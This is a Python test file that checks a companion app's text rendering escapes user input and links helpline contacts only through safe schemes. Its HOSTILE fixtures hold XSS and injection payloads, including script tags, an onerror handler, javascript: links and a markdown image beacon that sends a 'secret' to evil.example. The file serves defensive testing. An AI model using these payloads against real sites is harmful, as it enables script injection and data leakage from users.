"""Nothing anyone writes becomes markup."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest

from companion.domain import Contact
from companion.ui.plain import inline, paragraphs, quoted, unmarked, written
from companion.ui.reach import item, link

HOSTILE = {
    "image": "![x](http://evil.example/?q=secret)",
    "link": "[click](javascript:alert(1)) http://evil.example",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)' x='",
    "latex": "$x$ and $$\\frac{1}{2}$$",
    "shortcode": ":smile: :material/edit: :red[loud]",
    "right to left": "אני בסדר (really) مرحبا",
    "emoji": "it hurts 😞👩‍👩‍👧",
    "entity": "&lt;b&gt; &amp;",
    "lines": "one\ntwo\n\nthree",
}


class _Read(HTMLParser):
    """Reads HTML back as a browser would: the tags, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_paragraphs_hold_the_same_characters_and_only_our_tags(text: str) -> None:
    read = _Read(paragraphs(text))
    assert all(tag in {("p", (("dir", "auto"),)), ("br", ())} for tag in _flat(read))
    assert read.text.replace("\n", "") == text.replace("\n", "")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_quotation_holds_the_same_characters(text: str) -> None:
    read = _Read(quoted(text))
    assert [tag for tag, _ in read.tags] == ["q", "bdi"]
    assert read.text == text
    assert _Read(inline(text)).tags == []


@pytest.mark.parametrize(
    "text", ["models.example", "http://evil.example/v1", "www.evil.example", "me@evil.example"]
)
def test_a_label_shows_the_same_and_parts_what_would_become_a_link(text: str) -> None:
    label = unmarked(text)
    assert label.replace("\u2060", "").replace("\\", "") == text
    assert ("\u2060" in label) is (text != "models.example")


@pytest.mark.parametrize("text", [HOSTILE["image"], HOSTILE["latex"], HOSTILE["shortcode"]])
def test_a_label_has_every_mark_of_markdown_escaped(text: str) -> None:
    assert not re.search(r"(?<!\\)[!\[\]*_$:`]", unmarked(text))


def _flat(read: _Read) -> list[tuple[str, tuple[tuple[str, str | None], ...]]]:
    return [(tag, tuple(attrs)) for tag, attrs in read.tags]


def test_a_date_is_written_out() -> None:
    assert written(datetime(2025, 11, 4, tzinfo=UTC)) == "4 November 2025"


def _contact(how: str, value: str, note: str = "") -> Contact:
    return Contact(
        "Shout", how, value, ("self",), "24 hours", "https://source.example", "2024", note
    )


@pytest.mark.parametrize(
    ("how", "value", "href"),
    [
        ("phone", "116 123", "tel:116123"),
        ("phone", "+44 20 1", "tel:+44201"),
        ("text", "85258", "sms:85258"),
        ("web", "https://findahelpline.com", "https://findahelpline.com"),
        ("chat", "https://116sos.pl", "https://116sos.pl"),
        ("chat", "600 000 016", None),
        ("web", "javascript:alert(1)", None),
    ],
)
def test_a_contact_links_only_where_a_device_can_follow(
    how: str, value: str, href: str | None
) -> None:
    read = _Read(link(_contact(how, value)))
    assert dict(read.tags[0][1]).get("href") == href


def test_what_a_note_says_of_sources_is_not_shown() -> None:
    shown = item(_contact("text", "85258", "Text SHOUT. [Read in a local report.]"))
    assert "Text SHOUT." in shown
    assert "local report" not in shown


def test_the_source_stands_in_small_print_where_asked() -> None:
    read = _Read(item(_contact("phone", "1"), source=True))
    assert "Source: https://source.example (2024)" in read.text
    assert "source.example" not in item(_contact("phone", "1"))
